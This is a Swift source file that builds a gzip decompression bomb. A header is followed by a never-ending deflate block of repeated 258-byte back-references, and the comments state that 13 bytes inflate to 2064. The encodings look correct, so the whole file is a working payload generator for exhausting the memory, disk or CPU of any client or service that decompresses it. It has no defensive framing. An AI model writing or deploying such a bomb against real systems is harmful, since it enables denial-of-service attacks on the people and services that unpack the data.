/// A gzip stream that has no end: little to send, much to unpack.
enum GzipBomb {
  /// A header, then a block with fixed Huffman codes that holds one zero byte and one match.
  static let start: [UInt8] =
    [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3] + packed([0, 1, 0] + [0, 0, 1, 1, 0, 0, 0, 0] + match)

  /// More matches of the same block, which never ends: 13 bytes make 2064.
  static let block = packed((0..<8000).flatMap { _ in match })

  /// "Repeat the byte before 258 times": length 258 in eight bits, distance 1 in five.
  private static let match: [UInt8] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]

  /// Bits as deflate packs them, the first one lowest.
  private static func packed(_ bits: [UInt8]) -> [UInt8] {
    stride(from: 0, to: bits.count, by: 8).map { start in
      (0..<8).reduce(UInt8(0)) { $0 | bits[start + $1] << UInt8($1) }
    }
  }
}
